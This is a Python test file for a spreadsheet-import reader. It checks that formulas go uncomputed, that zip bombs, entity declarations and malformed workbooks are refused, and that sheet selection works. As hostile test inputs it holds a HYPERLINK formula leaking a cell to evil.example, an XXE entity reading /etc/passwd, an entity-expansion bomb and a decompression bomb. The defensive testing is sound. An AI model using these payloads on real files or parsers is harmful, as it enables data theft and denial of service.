"""Workbooks: read like any table, and measured before they are opened."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pytest
from openpyxl import Workbook

from holdtrue.app.imports.limits import Limits
from holdtrue.app.imports.reading import read
from holdtrue.app.imports.table import Row, Unread
from holdtrue.core.refusals import BadInput
from holdtrue.words import say
from imports.scoring import saas_workbook


def saved(book: Workbook) -> bytes:
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def repacked(content: bytes, changes: dict[str, bytes]) -> bytes:
    """Return the workbook with some of its parts replaced or added."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            if name not in changes:
                new.writestr(name, old.read(name))
        for name, body in changes.items():
            new.writestr(name, body)
    return stream.getvalue()


def plain() -> bytes:
    book = Workbook()
    book.active.append(["Name", "Since", "Users", "Live"])
    book.active.append(["Scribe", dt.datetime(2024, 3, 1), 12.0, True])  # noqa: DTZ001  # cells know no time zone
    book.active.append(["Sift", dt.datetime(2024, 3, 1, 9, 30), 1.5, False])  # noqa: DTZ001  # cells know no time zone
    return saved(book)


def test_cells_of_every_type_become_text():
    table = read(plain(), name="tools.xlsx")
    assert table.format == "xlsx"
    assert [row.cells for row in table.rows()] == [
        ("Scribe", "2024-03-01", "12", "TRUE"),
        ("Sift", "2024-03-01 09:30:00", "1.5", "FALSE"),
    ]


def test_the_content_and_not_the_name_says_that_it_is_a_workbook():
    assert read(plain(), name="tools.csv").format == "xlsx"


def test_the_first_sheet_with_rows_is_read_and_the_others_named():
    book = Workbook()
    book.active.title = "Cover"
    book.create_sheet("Tools").append(["Name", "Purpose"])
    book["Tools"].append(["A", "b"])
    book.create_sheet("Old").append(["Name", "Purpose"])
    table = read(saved(book))
    assert (table.sheet, table.sheets) == ("Tools", ("Cover", "Tools", "Old"))
    assert say(table.notes[0]) == "The sheet 'Tools' was read. Not read: Cover, Old."
    assert read(saved(book), sheet="Old").sheet == "Old"
    with pytest.raises(BadInput, match=r"imports\.workbook\.sheet"):
        read(saved(book), sheet="Nowhere")


def test_lines_are_those_of_the_sheet():
    table = read(saas_workbook())
    assert table.header_line == 3
    assert [row.line for row in table.rows()] == [4, 5, 6, 7, 8]


def test_a_formula_is_never_computed_and_its_stored_result_is_taken():
    book = Workbook()
    book.active.append(["Name", "Cost"])
    book.active.append(["A", "=1+1"])
    book.active.append(["B", '=HYPERLINK("http://evil.example?x="&A1,"click")'])
    content = saved(book)
    found = list(read(content).rows())
    assert [row.cells for row in found if isinstance(row, Row)] == [("A", ""), ("B", "")]
    assert [note.id for row in found for note in row.notes] == ["imports.cell.formula"] * 2
    part = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    with_result = repacked(
        content,
        {
            "xl/worksheets/sheet1.xml": part.replace(b"<f>1+1</f><v></v>", b"<f>1+1</f><v>2</v>")
            .replace(b"<f>1+1</f><v/>", b"<f>1+1</f><v>2</v>")
            .replace(b"<f>1+1</f><v />", b"<f>1+1</f><v>2</v>")
        },
    )
    assert next(read(with_result).rows()).cells == ("A", "2")


def test_a_workbook_that_unpacks_to_far_more_is_refused_unopened():
    bomb = repacked(plain(), {"xl/worksheets/sheet1.xml": b"<x>" + b" " * 40_000_000})
    with pytest.raises(BadInput) as refused:
        read(bomb, name="bomb.xlsx")
    assert refused.value.code == "imports.workbook.bomb"
    assert "far more than a table needs" in say(refused.value.message)


def test_a_workbook_of_too_many_parts_is_refused():
    with pytest.raises(BadInput, match=r"imports\.workbook\.bomb"):
        read(repacked(plain(), {f"xl/media/{n}.bin": b"" for n in range(60)}), limits=Limits(members=50))


@pytest.mark.parametrize(
    "declaration",
    [
        b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
    ],
)
def test_entities_are_refused(declaration):
    part = zipfile.ZipFile(io.BytesIO(plain())).read("xl/worksheets/sheet1.xml")
    with pytest.raises(BadInput, match=r"imports\.workbook\.entities"):
        read(repacked(plain(), {"xl/worksheets/sheet1.xml": declaration + part}))


def test_a_part_in_another_encoding_is_refused():
    part = zipfile.ZipFile(io.BytesIO(plain())).read("xl/worksheets/sheet1.xml").decode()
    with pytest.raises(BadInput, match=r"imports\.workbook\.entities"):
        read(repacked(plain(), {"xl/worksheets/sheet1.xml": part.encode("utf-16")}))


def test_an_archive_that_is_no_workbook_and_a_damaged_one_are_told():
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("readme.txt", "no table")
    for content, code in (
        (stream.getvalue(), "other"),
        (plain()[:-200], "broken"),
        (b"PK\x03\x04garbage", "broken"),
    ):
        with pytest.raises(BadInput) as refused:
            read(content)
        assert refused.value.code == f"imports.workbook.{code}"


def test_a_sheet_that_lies_about_its_size_is_read_as_it_is():
    part = zipfile.ZipFile(io.BytesIO(plain())).read("xl/worksheets/sheet1.xml")
    lying = part.replace(b'<dimension ref="A1:D3"', b'<dimension ref="A1:XFD1048576"')
    assert lying != part
    assert len(list(read(repacked(plain(), {"xl/worksheets/sheet1.xml": lying})).rows())) == 2


def test_a_row_number_beyond_all_rows_does_not_run_for_ever():
    part = zipfile.ZipFile(io.BytesIO(plain())).read("xl/worksheets/sheet1.xml")
    far = part.replace(b'<row r="3"', b'<row r="999999999999"')
    assert far != part
    found = list(read(repacked(plain(), {"xl/worksheets/sheet1.xml": far}), limits=Limits(rows=500)).rows())
    assert isinstance(found[-1], Unread)
    assert found[-1].why.id == "imports.file.rows"


def test_the_fullest_sheet_is_read_behind_a_cover_and_before_a_legend():
    book = Workbook()
    book.active.title = "Cover"
    book.active.append(["AI register of Muster AG"])
    book.active.append(["As of 1 May 2025"])
    systems = book.create_sheet("Systems")
    systems.append(["AI register of Muster AG"])
    systems.append([])
    systems.append(["No", "Name", "Department", "Status"])
    systems.append([1, "Scribe", "Care", "Live"])
    systems.append([2, "Sift", "Sales", "Pilot"])
    legend = book.create_sheet("Legend")
    for number in range(20):
        legend.append([f"Word {number}", "what it means"])
    table = read(saved(book), name="register.xlsx")
    assert (table.sheet, table.header_line) == ("Systems", 3)
    assert [row.cells[1] for row in table.rows()] == ["Scribe", "Sift"]
